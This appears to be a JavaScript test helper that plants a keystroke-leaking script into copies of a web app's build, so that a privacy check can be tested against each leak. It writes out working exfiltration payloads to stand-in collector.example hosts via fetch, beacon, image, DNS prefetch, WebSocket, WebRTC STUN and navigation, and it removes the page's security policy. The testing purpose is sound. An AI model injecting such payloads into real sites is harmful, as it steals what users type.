/**
 * Builds with a leak in them: the proof must find each, or it proves nothing. A planted script leaks
 * what is typed, in whichever ways are asked for, each to a name of its own.
 */
import { cpSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

import { filesIn, isPage, readBuilt } from '../../scripts/build-files.mjs';
import { META_POLICY, WORKER_PATH } from '../../scripts/headers.mjs';
import { precacheText } from '../../scripts/precache.mjs';

const SCRIPT = '_app/immutable/entry/planted.js';

/** @param {string} name @returns {string} where a leak of this name goes */
export const collectorOf = (name) => `${name}.collector.example`;

/** @param {string} name */
const address = (name) => `'//${collectorOf(name)}/?v=' + encodeURIComponent(value)`;

/** What each does with a `value` that was typed. @satisfies {Record<string, string>} */
const NETWORK = {
	fetch: `fetch(${address('fetch')}, { mode: 'no-cors' }).catch(() => undefined)`,
	beacon: `navigator.sendBeacon('//${collectorOf('beacon')}/', value)`,
	image: `new Image().src = ${address('image')}`,
	dns: `const link = document.createElement('link');
		link.href = '//' + encodeURIComponent(value) + '.${collectorOf('dns')}';
		setRel.call(link, 'dns-prefetch');
		document.head.append(link)`,
	websocket: `new Socket('ws:' + ${address('websocket')})`,
	webrtc: `const peer = new Peer({
			iceServers: [{ urls: 'stun:' + encodeURIComponent(value) + '.${collectorOf('webrtc')}' }] });
		peer.createDataChannel('');
		void peer.setLocalDescription()`,
	navigation: `if (!opened) opened = openWindow(${address('navigation')}, '', 'noopener') ?? true`,
};

const LOCAL = {
	console: `console.log(value)`,
	title: `document.title = value`,
	storage: `localStorage.setItem('planted', btoa(value))`,
};

export const LEAKS = /** @type {Readonly<Record<string, string>>} */ ({ ...NETWORK, ...LOCAL });

/** Leaks that leave by packets; the others stay on the device. */
export const NETWORK_LEAKS = Object.keys(NETWORK);

/** What the page's policy stops; the rest leaves although it is in force. */
const STOPPED_BY_POLICY = new Set(['fetch', 'beacon', 'image', 'websocket']);

/** The worker answers in place of every server; of those that leaks go to it must not. */
const STAND_ASIDE = `addEventListener('fetch', (event) => {
	if (new URL(event.request.url).hostname.endsWith('.collector.example'))
		event.stopImmediatePropagation();
});
`;

/**
 * Copies a build and plants leaks in it.
 *
 * @param {string} from
 * @param {string} to
 * @param {readonly string[]} names of `LEAKS`
 * @returns {boolean} whether its pages must be served without a policy
 */
export function plantLeaks(from, to, names) {
	const isOpen = names.some((name) => STOPPED_BY_POLICY.has(name));
	cpSync(from, to, { recursive: true });
	const leaks = names.map((name) => `try { ${LEAKS[name] ?? ''} } catch {}`).join('\n');
	writeFileSync(
		join(to, SCRIPT),
		// Before the guard, which would take them away.
		`{ const Peer = RTCPeerConnection, Socket = WebSocket, openWindow = open.bind(window);
		const setRel = Object.getOwnPropertyDescriptor(HTMLLinkElement.prototype, 'rel').set;
		let opened = false;
		addEventListener('change', ({ target: { value } }) => { ${leaks} }, true); }`,
	);
	const policy = `<meta http-equiv="content-security-policy" content="${META_POLICY}" />`;
	for (const page of filesIn(to).filter(isPage)) {
		const html = readBuilt(to, page);
		if (!html.includes(policy)) throw new Error(`${page}: expected the policy of this checkout.`);
		const kept = isOpen ? '' : policy;
		writeFileSync(
			join(to, page),
			html.replace(policy, `${kept}<script src="/${SCRIPT}"></script>`),
		);
	}
	const worker = join(to, WORKER_PATH);
	const text = readFileSync(worker, 'utf8');
	const list = precacheText(from);
	if (!text.includes(list)) throw new Error('The worker has another list than this build.');
	writeFileSync(worker, STAND_ASIDE + text.replace(list, () => precacheText(to)));
	return isOpen;
}
